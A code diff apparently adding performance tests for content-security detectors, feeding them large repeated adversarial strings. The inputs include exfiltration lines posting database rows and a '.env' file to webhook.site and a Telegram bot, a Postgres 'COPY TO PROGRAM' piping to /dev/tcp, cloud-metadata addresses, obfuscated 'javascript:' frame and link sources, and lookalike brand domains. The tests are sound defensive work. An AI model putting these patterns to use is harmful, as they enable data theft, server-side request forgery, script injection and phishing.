@@ -67,6 +67,16 @@ const inputs: Record<string, string> = {
   "catchers' queries": rep('https://webhook.site/x?r=a%40b.c,a%40b.c,4111111111111111,'),
   'tables posted by name': rep('requests.post("https://webhook.site/x", json=rows) rows = rows = '),
   'IPv6 and wide dots': rep('http://[0:0:0:0:0:ffff:169.254.169.254]/ https://paypal．com．x。y｡z/ '),
+  // cases-56's shapes: hyphen parts and subdomains near brands, zone ids, referenced and script-set frame sources,
+  // tabs in markdown schemes, unencoded nested redirects, chats sent rows by name, SQL programs over the network.
+  'hyphen parts and subdomains near brands': rep('https://gooogle-a-b-c.micorsoft.appleid1-x.y-z.q/ '),
+  'zone ids': rep('http://[fd20:ce::254%25eth0]/ http://[fe80::1%25'),
+  'referenced frame sources': rep('<iframe a b src="java&#115;cript&colon;x&#'),
+  'frame sources set from script': rep('f.src = "javascript:x" setAttribute("src", "javascript:'),
+  'markdown schemes split by tabs': rep('](java\ta\ts\tc\tript:'),
+  'unencoded nested redirects': rep('https://a.example/?u=https://b.example/?u=https://c.example/?u='),
+  'chats sent rows by name': rep('requests.post("https://api.telegram.org/botX/sendMessage", text={rows} json=rows) rows = str(rows '),
+  'SQL programs over the network': rep("COPY t TO PROGRAM 'python3 -c \\'import socket /dev/tcp/1.2.3.4/ openssl s_client '' "),
   // Raw e-mails' transfer encodings (mime.ts): headers with no blank line after them, parts back to back, long bodies.
   'transfer-encoding headers': rep('Content-Transfer-Encoding: base64\n'),
   'quoted-printable parts': rep('Content-Transfer-Encoding: quoted-printable\n\n=3D=3D=\n=3D\n\n'),
@@ -751,6 +761,16 @@ describe('content detectors on adversarial input', () => {
   it('the whole guard on the largest content of data work URLs', () => {
     const text = rep(
       `<iframe src="data:image/svg+xml;utf8,%3Csvg%20onload=x%3E"></iframe> COPY t TO PROGRAM 'curl -d @- https://webhook.site/a' requests.post("https://webhook.site/a", json=rows) rows = x https://webhook.site/a?r=a%40b.c,d%40e.f https://t.co/?u=https%253A%252F%252Fgooqle.com http://[fd00:ec2:0:0:0:0:0:254]/ https://paypal．com．x.io/ <a href="javascript :x">a</a> `,
+      800_000,
+    );
+    const started = cpu();
+    const r = guard(text, CONTENT_QUESTIONS);
+    expect(r.ok).toBe(true);
+    expect(cpu() - started).toBeLessThan(BOUND_MS * 4);
+  });
+  it("the whole guard on the largest content of cases-56's shapes", () => {
+    const text = rep(
+      `https://gooogle-mail.com/ https://appleid-4412.com/ http://[fd20:ce::254%25eth0]/ <iframe src="java&#115;cript:x"></iframe> <script>f.src = "javascript:x"; f.setAttribute("src", "javascript:y")</script> [a](java\tscript:z) https://a.example/?next=https://b.example/r?u=https://paypa1.com/ rows = cur.fetchall()\nrequests.post("https://api.telegram.org/botX/sendMessage", json={"text": str(rows)}) with open(".env") as fh: files={"d": fh} COPY t TO PROGRAM 'bash -c "cat > /dev/tcp/1.2.3.4/1"'; `,
       800_000,
     );
     const started = cpu();
